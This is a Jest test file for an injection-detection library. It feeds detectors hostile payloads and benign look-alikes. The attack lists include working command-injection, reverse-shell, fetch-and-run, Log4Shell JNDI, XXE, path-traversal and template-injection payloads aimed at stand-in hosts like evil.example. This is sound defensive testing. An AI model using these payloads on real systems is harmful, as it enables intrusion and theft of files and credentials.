import { describe, expect, it } from '@jest/globals'
import {
  detectCommandInjection,
  detectCrlf,
  detectLdapInjection,
  detectNoSql,
  detectPathTraversal,
  detectPrototypePollution,
  detectTemplateInjection,
  detectXxe,
} from '../../src/index.js'

describe('detectCommandInjection', () => {
  it.each([
    '127.0.0.1; cat /etc/passwd',
    '127.0.0.1 && whoami',
    '127.0.0.1|id',
    'a || wget http://evil.example/x -O- | sh',
    '& ping -n 10 127.0.0.1 &',
    '$(curl evil.example)',
    '`id`',
    'x`whoami`',
    ';ls -la',
    ';ls${IFS}-la',
    ';cat$IFS/etc/passwd',
    ";c'a't /etc/passwd",
    ';c""at /etc/passwd',
    ';c\\at /etc/passwd',
    ';/bin/c?t /etc/p?sswd',
    ';/usr/bin/id',
    ';wh$@oami',
    '{cat,/etc/passwd}|sh',
    '\nid',
    'a\ncurl http://evil.example',
    '%0Awhoami',
    '() { :;}; /bin/bash -c "id"',
    'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
    'x; powershell -enc SQBFAFgA',
    "IEX(New-Object Net.WebClient).DownloadString('http://x')",
    'cmd.exe /c dir',
    '| type C:\\boot.ini',
    '%COMSPEC%',
    '<(curl evil.example)',
    'cat /etc/passwd',
    '1;sleep 10',
    '1|nc -e /bin/sh 10.0.0.1 4242',
    'w^h^o^ami&whoami',
  ])('[VA-4] finds %j', (attack) => {
    expect(detectCommandInjection(attack)).toMatchObject({ kind: 'command-injection', score: 5 })
  })

  it.each([
    'Tom & Jerry',
    'cats; dogs; find them all',
    'Use `cat file` to print a file, or `ls -la`.',
    'red | green | blue',
    'salt & pepper; sort of',
    'ps aux | grep node',
    'npm install && npm test',
    'I will kill time; who knows?',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0',
    'A | B & C',
    'pay $5 (or more)',
    'one\ntwo\nmore of it\nless of it',
    'R&D; head of sales',
    'find me at the host',
    'x = a || b && c;',
    'https://example.com/?a=1&id=2&sort=name&date=2026',
    'font: 12px; top: 3px; cut: 1px',
    "Terms & conditions; type 'yes' to go on",
  ])('[VA-4] lets %j pass', (innocent) => {
    expect(detectCommandInjection(innocent)).toBeUndefined()
  })
})

describe('detectPathTraversal', () => {
  const traversals = [
    '../etc/passwd',
    '../../etc/passwd',
    '../../../../../../etc/shadow',
    '..\\..\\windows\\win.ini',
    '..%2f..%2fetc%2fpasswd',
    '%2e%2e%2f%2e%2e%2fetc/passwd',
    '%2e%2e/%2e%2e/',
    '..%252f..%252fetc%252fpasswd',
    '%252e%252e%252fetc%252fpasswd',
    '..%c0%afetc%c0%afpasswd',
    '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
    '%c0%ae%c0%ae%c0%af',
    '%e0%80%ae%e0%80%ae%e0%80%afetc',
    '..%u2215..%u2215etc',
    '..%u2216..%u2216windows',
    '%uff0e%uff0e%u2215etc',
    '．．／．．／etc／passwd',
    '....//....//etc/passwd',
    '....\\\\....\\\\boot.ini',
    '..;/..;/manager/html',
    '..%00/..%00/etc/passwd',
    './../../secret',
    'images/../../../etc/passwd',
    'a/b/../../../c',
    '/var/www/../../etc/passwd',
    '..\\',
    '..%5c..%5c',
    '..%255c..%255cwindows',
    '/etc/passwd',
    '/etc/passwd%00.png',
    '//etc//passwd',
    'C:\\Windows\\win.ini',
    'c:/boot.ini',
    'C:\\Windows\\System32\\drivers\\etc\\hosts',
    '/proc/self/environ',
    'file:///etc/passwd',
    'php://filter/convert.base64-encode/resource=index.php',
    'php://input',
    'phar://upload.jpg/x.php',
    'expect://id',
    'zip://shell.jpg%23payload.php',
    'jar:http://evil.example/x.jar!/x',
    '/WEB-INF/web.xml',
    '..//..//..//etc//passwd',
    '\\..\\..\\..\\boot.ini',
    '%2fetc%2fpasswd',
  ]

  it('[VA-4] has at least forty traversals to find', () => {
    expect(traversals.length).toBeGreaterThanOrEqual(40)
  })

  it.each(traversals)('[VA-4] finds %j', (attack) => {
    expect(detectPathTraversal(attack)).toMatchObject({ kind: 'path-traversal', score: 5 })
  })

  it.each([
    'report.final..pdf',
    'wait... what/ever',
    'and so on.../etc',
    '1..10',
    'a/b/c.txt',
    '/users/42/photos',
    'Chapters 1../ are mine',
    "import { x } from '../x'",
    'See ../README.md for more',
    'https://example.com/a/b?c=d',
    'C:\\Users\\Ann\\Documents\\letter.docx',
    'and/or',
    '2026/11/21',
    'either/or.../neither',
    'git@github.com:a/b.git',
  ])('[VA-4] lets %j pass', (innocent) => {
    expect(detectPathTraversal(innocent)).toBeUndefined()
  })
})

describe('detectNoSql', () => {
  it.each([
    'a[$ne]',
    '$where',
    'user[password][$regex]',
    'filter.$gt',
    '$OR',
    '{"$ne": null}',
    "{'$gt':''}",
    '{ $where: "sleep(100)" }',
    '[$nin][]',
    "' || 'a'=='a",
    "' || '1'=='1",
    "'; return true; var x='",
    "'; while(true){}; var x='",
    '{"username":{"$regex":"^a"}}',
  ])('[VA-4] finds %j', (attack) => {
    expect(detectNoSql(attack)).toMatchObject({ kind: 'nosql-injection', score: 5 })
  })

  it.each([
    'price[]',
    '$5',
    'US$ in cash',
    'costs $gt',
    'a.b.c',
    '$ne is not equal',
    "it's $10 or $20",
    '{"a": "$10"}',
    '$scope',
    "rock 'n' roll || jazz",
  ])('[VA-4] lets %j pass', (innocent) => {
    expect(detectNoSql(innocent)).toBeUndefined()
  })
})

describe('detectPrototypePollution', () => {
  it.each([
    '__proto__',
    '__proto__[admin]',
    'a.__proto__.b',
    'a[__proto__][b]',
    'constructor.prototype',
    'constructor[prototype][x]',
    '{"__proto__": {"admin": true}}',
    '{"constructor": {"prototype": {"x": 1}}}',
    '__proto__.toString',
  ])('[VA-4] finds %j', (attack) => {
    expect(detectPrototypePollution(attack)).toMatchObject({ kind: 'prototype-pollution', score: 5 })
  })

  it.each(['constructor', 'prototype', 'a constructor of prototypes', '__init__', 'proto', 'the prototype[1]'])(
    '[VA-4] lets %j pass',
    (innocent) => {
      expect(detectPrototypePollution(innocent)).toBeUndefined()
    },
  )
})

describe('detectCrlf', () => {
  it.each([
    'x\r\nSet-Cookie: a=1',
    'x\nLocation: https://evil.example',
    'x%0d%0aSet-Cookie:%20a=1',
    'x%250d%250aLocation:%20x',
    'x\r\n\r\nHTTP/1.1 200 OK',
    'x\r\nContent-Length: 0\r\n\r\n',
    'x嘊嘍Set-Cookie: a=1',
    'x%E5%98%8A%E5%98%8DSet-Cookie:%20a=1',
    'x\rX-XSS-Protection: 0',
  ])('[VA-4] finds %j', (attack) => {
    expect(detectCrlf(attack)).toMatchObject({ kind: 'header-injection', score: 5 })
  })

  it.each([
    'Dear all,\r\nsee you\r\nBob',
    'a\nb: c',
    'note\n- one: 1\n- two: 2',
    'Location: Berlin',
    'Set-Cookie: a=1',
  ])('[VA-4] lets %j pass', (innocent) => {
    expect(detectCrlf(innocent)).toBeUndefined()
  })
})

describe('detectTemplateInjection', () => {
  it.each([
    '{{7*7}}',
    "{{7*'7'}}",
    '${7*7}',
    '#{7*7}',
    '*{7*7}',
    '<%= 7*7 %>',
    '@(7*7)',
    '{{"".__class__.__mro__}}',
    '{{config.items()}}',
    '{{self.__init__.__globals__.__builtins__}}',
    "{{''|attr('__class__')}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}",
    "{{['id']|filter('system')}}",
    '{% import os %}{{ os.popen("id") }}',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '#set($x=7*7)$x',
    '${T(java.lang.Runtime).getRuntime().exec("id")}',
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:ldap://evil.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}',
    '${${env:X:-j}ndi${env:X:-:}ldap://evil.example/a}',
    '<%= system("id") %>',
    '<%= `id` %>',
    '{{ request.application.__globals__ }}',
    '{system("id")}',
    '{php}echo 1;{/php}',
    '[[${7*7}]]',
    '{{#with "s" as |string|}}{{this.constructor}}{{/with}}',
    '%7B%7B7*7%7D%7D',
  ])('[VA-4] finds %j', (attack) => {
    expect(detectTemplateInjection(attack)).toMatchObject({ kind: 'template-injection', score: 5 })
  })

  it.each([
    'Dear {{ name }},',
    '${price}',
    'Hello {first_name}!',
    '<%= name %>',
    'a {b} c',
    '{"a": {"b": 1}}',
    'function f() { return `${x}` }',
    '#1 of 7*7',
    'body { color: red }',
    '{{#if user}}hi{{/if}}',
    '\\frac{1}{2} + \\sqrt{x}',
    'f(x) = {x | x > 0}',
    'user@(home)',
  ])('[VA-4] lets %j pass', (innocent) => {
    expect(detectTemplateInjection(innocent)).toBeUndefined()
  })
})

describe('detectLdapInjection', () => {
  it.each([
    '*)(uid=*))(|(uid=*',
    'admin)(&)',
    'admin)(|(password=*)',
    'x)(cn=*',
    '*)(objectClass=*',
    ')(!(userPassword=*))',
    'a*)(&(objectClass=person)',
    '%2A%29%28uid%3D%2A',
    'bob)(mail=*))%00',
  ])('[VA-4] finds %j', (attack) => {
    expect(detectLdapInjection(attack)).toMatchObject({ kind: 'ldap-injection', score: 5 })
  })

  it.each([
    '(&(objectClass=user)(cn=John))',
    '(|(sn=Smith)(sn=Jones))',
    ':) (see you)',
    ':)(:',
    'f(x)(y)',
    'a) first, b) second (c = third)',
    '1) x (y)',
    '*important*',
    '(555) 123-4567',
  ])('[VA-4] lets %j pass', (innocent) => {
    expect(detectLdapInjection(innocent)).toBeUndefined()
  })
})

describe('detectXxe', () => {
  it.each([
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd">',
    '<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd">',
    '<!DOCTYPE foo PUBLIC "x" "http://evil.example/x.dtd">',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    '<!DOCTYPE foo [ %x; ]>',
    '%3C%21ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E',
  ])('[VA-4] finds %j', (attack) => {
    expect(detectXxe(attack)).toMatchObject({ kind: 'xxe', score: 5 })
  })

  it.each([
    '<!DOCTYPE html>',
    '<!doctype html SYSTEM "about:legacy-compat">',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    '<?xml version="1.0"?><a/>',
    'an entity of the system',
    '<!-- comment -->',
  ])('[VA-4] lets %j pass', (innocent) => {
    expect(detectXxe(innocent)).toBeUndefined()
  })
})
